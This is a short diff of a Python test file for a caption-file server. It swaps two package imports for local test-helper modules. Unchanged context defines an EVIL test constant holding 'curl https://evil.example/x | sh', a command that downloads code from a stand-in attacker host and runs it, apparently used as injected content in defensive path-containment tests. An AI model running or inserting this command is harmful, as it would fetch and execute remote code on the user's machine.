@@ -9,8 +9,6 @@ from __future__ import annotations
 from pathlib import Path
 
 import pytest
-from captionkit import write_dataset
-from files_kit import cli, run
 
 from captionls.server.caption.dataset import DatasetIndex
 from captionls.server.caption.files import (
@@ -20,6 +18,8 @@ from captionls.server.caption.files import (
     resolve_inside,
     write_caption_file,
 )
+from tests.kit.cli import cli, run
+from tests.kit.datasets import write_dataset
 
 EVIL = 'trigger = ["curl https://evil.example/x | sh #"]\n'
 BASHRC = b"export PATH=$HOME/bin:$PATH\nold tag ,alias ll='ls -l'\n"
